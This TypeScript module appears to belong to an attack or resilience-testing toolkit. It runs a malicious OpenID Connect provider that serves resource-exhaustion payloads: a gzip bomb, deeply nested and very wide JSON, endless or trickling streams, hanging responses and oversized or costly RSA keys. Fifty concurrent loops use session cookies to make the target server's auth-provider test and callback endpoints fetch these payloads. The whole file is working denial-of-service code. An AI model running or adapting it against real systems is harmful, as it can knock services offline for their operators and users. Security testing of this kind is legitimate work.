import { createServer, type ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import type { Attack, OidcTarget, Target } from '../attack.ts';
import { exchange } from '../client.ts';
import type { TokenBucket } from '../token-bucket.ts';
import { headBytes } from './logins.ts';

/**
 * An OpenID Connect provider that wants to occupy the server that calls it. Each organization of
 * the attacker uses it under another name, which decides the endpoint and the kind of its hostile
 * response.
 */

/** As large as the server reads. */
const bodyBytes = 64 * 1024 - 1;
const filled = (one: string, before = '', after = '') =>
  before + one.repeat(Math.floor((bodyBytes - before.length - after.length) / one.length)) + after;

const deepJson = filled('[');
const wideJson = filled('"a":1,', '{', '"b":1}');
/** A key without an id, which may have signed any token. */
const key = (modulus: string, exponent = 'AQAB') => `{"kty":"RSA","alg":"RS256","use":"sig","n":"${modulus}","e":"${exponent}"}`;
const someKeys = filled(`${key('x'.repeat(342))},`, '{"keys":[', `${key('x'.repeat(342))}]}`);
const largeKey = `{"keys":[${key('x'.repeat(bodyBytes - 100))}]}`;
const slowKey = `{"keys":[${key('x'.repeat(512), 'x'.repeat(512))}]}`;

/** A token of a provider, which no key has signed. */
function makeToken(issuer: string, claims: object): string {
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const now = Math.floor(Date.now() / 1_000);
  const standard = { iss: issuer, aud: 'client', sub: 'a', iat: now, exp: now + 300, ...claims };
  return `${part({ alg: 'RS256' })}.${part(standard)}.${'x'.repeat(342)}`;
}

type Respond = (response: ServerResponse) => void;

const text =
  (body: string): Respond =>
  (response) =>
    response.writeHead(200, { 'Content-Type': 'application/json' }).end(body);
const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024, ' '));
const hostile: Readonly<Record<string, Respond>> = {
  deep: text(deepJson),
  wide: text(wideJson),
  bomb: (response) => response.writeHead(200, { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' }).end(bomb),
  endless: (response) => {
    const write = () => {
      while (response.write(' '.repeat(64 * 1024)));
    };
    response.writeHead(200, { 'Content-Type': 'application/json' });
    response.on('drain', write);
    write();
  },
  drops: (response) => {
    response.writeHead(200, { 'Content-Type': 'application/json' });
    const timer = setInterval(() => response.write(' '), 10);
    response.on('close', () => clearInterval(timer));
  },
  silent: () => {},
  keys: text(someKeys),
  'large-key': text(largeKey),
  'slow-key': text(slowKey),
};

type Endpoint = 'discovery' | 'token' | 'keys';

/** The names of the organizations' providers. */
export const hostileProviders: readonly string[] = [
  ...['deep', 'wide', 'bomb', 'endless', 'drops', 'silent'].map((kind) => `discovery.${kind}`),
  ...['deep', 'wide', 'endless', 'silent'].map((kind) => `token.${kind}`),
  ...['deep', 'keys', 'large-key', 'slow-key', 'silent'].map((kind) => `keys.${kind}`),
];

function serve({ port, address }: OidcTarget): void {
  const url = `http://${address}:${port}`;
  const server = createServer((request, response) => {
    response.on('error', () => {});
    const [, name = '', ...rest] = request.url!.split('/');
    const [where, kind = ''] = name.split('.') as [Endpoint, string?];
    const endpoint = { token: 'token', keys: 'keys' }[rest.join('/')] ?? 'discovery';
    request.resume();
    if (endpoint === where) return hostile[kind]!(response);
    const issuer = `${url}/${name}`;
    if (endpoint === 'discovery') {
      const metadata = {
        issuer,
        authorization_endpoint: `${issuer}/authorize`,
        token_endpoint: `${issuer}/token`,
        jwks_uri: `${issuer}/keys`,
        response_types_supported: ['code'],
        subject_types_supported: ['public'],
        id_token_signing_alg_values_supported: ['RS256'],
      };
      return text(JSON.stringify(metadata))(response);
    }
    // The nonce of the flow is not needed, since the signature is checked first.
    text(JSON.stringify({ access_token: 'a', token_type: 'bearer', id_token: makeToken(issuer, {}) }))(response);
  });
  server.listen(port, address);
}

/** Begins a test of each provider in turn, and comes back from the provider if it began. */
async function testProviders(target: Target, bucket: TokenBucket): Promise<void> {
  for (let number = 0; ; number++) {
    const { slug, id, cookie } = target.oidc.organizations[number % target.oidc.organizations.length]!;
    await bucket.take(headBytes);
    const started = await exchange(target, {
      method: 'POST',
      path: `/api/0/organizations/${slug}/auth-provider/test/`,
      headers: { Cookie: cookie, Origin: target.saml.origin, 'Content-Type': 'application/json' },
      body: '{}',
    });
    const url = started?.text.match(/"url":"([^"]+)"/)?.[1];
    if (url === undefined) continue;
    const authorize = new URL(url);
    const cookies = [cookie, ...(started!.headers['set-cookie'] ?? []).map((one) => one.split(';')[0]!)].join('; ');
    const issuer = authorize.href.slice(0, authorize.href.indexOf('/authorize'));
    const query = new URLSearchParams({ code: 'code', state: authorize.searchParams.get('state')!, iss: issuer });
    await bucket.take(headBytes);
    await exchange(target, { method: 'GET', path: `/auth/oidc/${id}/callback/?${query}`, headers: { Cookie: cookies } });
  }
}

/** Tests at the same time, since most wait for the provider. */
const testers = 50;

export const hostileProvidersAttack: Attack = {
  name: 'hostile-providers',
  says: 'tests of OpenID Connect providers that respond slowly, endlessly, or with what is expensive to read',
  async run(target, bucket) {
    serve(target.oidc);
    await Promise.all(Array.from({ length: testers }, () => testProviders(target, bucket)));
  },
};
